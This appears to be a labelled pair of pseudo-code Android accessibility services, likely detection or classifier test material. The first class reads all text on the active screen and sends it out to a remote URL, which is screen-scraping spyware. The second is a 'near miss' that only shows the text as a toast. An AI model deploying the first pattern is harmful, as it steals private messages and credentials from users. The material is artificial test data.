permissions("INTERNET")

@service(permission="BIND_ACCESSIBILITY_SERVICE", actions=["android.accessibilityservice.AccessibilityService"])
class Chats(AccessibilityService):
    def onAccessibilityEvent(self, event):
        self.read(self.getRootInActiveWindow())
    def onInterrupt(self):
        pass
    def read(self, node: AccessibilityNodeInfo):
        at = 0
        end = node.getChildCount()
        while at < end:
            child = node.getChild(at)
            self.said(String.valueOf(child.getText()))
            self.read(child)
            at = at + 1
    def said(self, text: String):
        URL("https://example.org/in").openConnection().getOutputStream().write(text.getBytes())

# near miss: speaks the text; the network is asked for the newest voice only
@service(permission="BIND_ACCESSIBILITY_SERVICE", actions=["android.accessibilityservice.AccessibilityService"])
class Chats(AccessibilityService):
    def onAccessibilityEvent(self, event):
        self.read(self.getRootInActiveWindow())
    def onInterrupt(self):
        pass
    def read(self, node: AccessibilityNodeInfo):
        at = 0
        end = node.getChildCount()
        while at < end:
            child = node.getChild(at)
            self.said(String.valueOf(child.getText()))
            self.read(child)
            at = at + 1
    def said(self, text: String):
        Toast.makeText(self, text, 1).show()
        URL("https://example.org/in").openStream().close()
